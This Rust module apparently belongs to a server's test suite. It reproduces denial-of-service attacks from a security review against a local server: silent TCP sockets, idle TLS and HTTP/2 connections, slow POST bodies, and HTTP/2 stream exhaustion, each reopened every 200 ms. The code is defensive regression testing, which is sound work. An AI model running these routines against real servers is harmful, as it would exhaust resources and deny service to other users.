//! The attacks of the 2026-11-26 review (M-1, M-5), from one source address (127.0.0.1), each
//! as persistent as an attacker would be: every connection the server closes is opened again
//! after [`RETRY`]. None needs more than a pod on the pod network.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use hyper::body::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_rustls::client::TlsStream;

use super::clients::{Source, connect_from, tls_from};

/// How soon a connection the server closed or refused is opened again.
pub const RETRY: Duration = Duration::from_millis(200);

/// A running attack; it stops when dropped.
pub struct Attack(JoinSet<()>);

impl Attack {
    fn new() -> Self {
        Self(JoinSet::new())
    }

    /// Runs `once` again and again (after [`RETRY`]) in `copies` tasks.
    fn repeat<F, Fut>(&mut self, copies: usize, once: F)
    where
        F: Fn() -> Fut + Send + Sync + 'static,
        Fut: std::future::Future<Output = ()> + Send,
    {
        let once = Arc::new(once);
        for _ in 0..copies {
            let once = once.clone();
            self.0.spawn(async move {
                loop {
                    once().await;
                    tokio::time::sleep(RETRY).await;
                }
            });
        }
    }

    /// [`Attack::repeat`] of: a TLS connection from the attacker offering `alpn`, handed to
    /// `then` (nothing when it fails).
    fn over_tls<F, Fut>(
        addr: SocketAddr,
        ca: &str,
        alpn: &'static [u8],
        copies: usize,
        then: F,
    ) -> Attack
    where
        F: Fn(TlsStream<TcpStream>) -> Fut + Send + Sync + 'static,
        Fut: std::future::Future<Output = ()> + Send,
    {
        let ca: Arc<str> = ca.into();
        let then = Arc::new(then);
        let mut attack = Attack::new();
        attack.repeat(copies, move || {
            let (ca, then) = (ca.clone(), then.clone());
            async move {
                if let Ok(tls) = tls_from(Source::Attacker, addr, &ca, &[alpn]).await {
                    then(tls).await;
                }
            }
        });
        attack
    }
}

/// Waits until the peer closes `stream` (or the read fails).
async fn until_closed<S: tokio::io::AsyncRead + Unpin>(mut stream: S) {
    let mut buf = [0u8; 4096];
    while matches!(stream.read(&mut buf).await, Ok(n) if n > 0) {}
}

/// Silent TCP connections: no TLS handshake, no request (the review: 140 sockets).
pub fn silent_tcp(addr: SocketAddr, sockets: usize) -> Attack {
    let mut attack = Attack::new();
    attack.repeat(sockets, move || async move {
        if let Ok(stream) = connect_from(Source::Attacker, addr).await {
            until_closed(stream).await;
        }
    });
    attack
}

/// TLS connections that negotiate HTTP/1.1 and never send a request (the review: 130).
pub fn idle_tls_http1(addr: SocketAddr, ca: &str, connections: usize) -> Attack {
    Attack::over_tls(addr, ca, b"http/1.1", connections, until_closed)
}

/// HTTP/2 connections with no stream, answering the server's pings and pinging it every
/// second (the review: 16, enough to hold every HTTP/2 slot).
pub fn idle_http2(addr: SocketAddr, ca: &str, connections: usize) -> Attack {
    Attack::over_tls(addr, ca, b"h2", connections, |tls| async move {
        let Ok((_send, mut connection)) = h2::client::handshake(tls).await else {
            return;
        };
        let Some(mut pings) = connection.ping_pong() else {
            return;
        };
        let pinging = async {
            while pings.ping(h2::Ping::opaque()).await.is_ok() {
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        };
        tokio::select! {
            _ = connection => {}
            () = pinging => {}
        }
    })
}

/// A `POST /filter` over HTTP/1.1 declaring `declared` bytes; sends `sent` of them and waits
/// for the server to answer or close (the review: 4 requests declaring 6 MiB, 1 byte sent).
pub fn bodies(addr: SocketAddr, ca: &str, requests: usize, declared: usize, sent: usize) -> Attack {
    Attack::over_tls(addr, ca, b"http/1.1", requests, move |mut tls| async move {
        let head = format!(
            "POST /filter HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {declared}\r\n\r\n{{"
        );
        if tls.write_all(head.as_bytes()).await.is_err() {
            return;
        }
        let chunk = vec![b' '; 64 * 1024];
        let mut left = sent.saturating_sub(1);
        while left > 0 {
            let n = left.min(chunk.len());
            if tls.write_all(&chunk[..n]).await.is_err() {
                return;
            }
            left -= n;
        }
        until_closed(tls).await;
    })
}

/// HTTP/2 connections each with as many streams as the server allows, every stream declaring
/// `declared` bytes and sending one (the review: 16 connections × 64 streams × 4 MiB; the test sends as many as the server allows, 128).
pub fn http2_streams(
    addr: SocketAddr,
    ca: &str,
    connections: usize,
    streams: usize,
    declared: usize,
) -> Attack {
    Attack::over_tls(addr, ca, b"h2", connections, move |tls| async move {
        let Ok((send, connection)) = h2::client::handshake(tls).await else {
            return;
        };
        let opening = async {
            let mut open = Vec::new();
            for _ in 0..streams {
                let Ok(mut send) = send.clone().ready().await else {
                    break;
                };
                let request = hyper::Request::post("https://x/filter")
                    .header("content-type", "application/json")
                    .header("content-length", declared.to_string())
                    .body(())
                    .expect("request");
                let Ok((answer, mut body)) = send.send_request(request, false) else {
                    break;
                };
                let _ = body.send_data(Bytes::from_static(b"{"), false);
                open.push((answer, body));
            }
            // Held until the connection ends.
            std::future::pending::<()>().await;
            drop(open);
        };
        tokio::select! {
            _ = connection => {}
            () = opening => {}
        }
    })
}
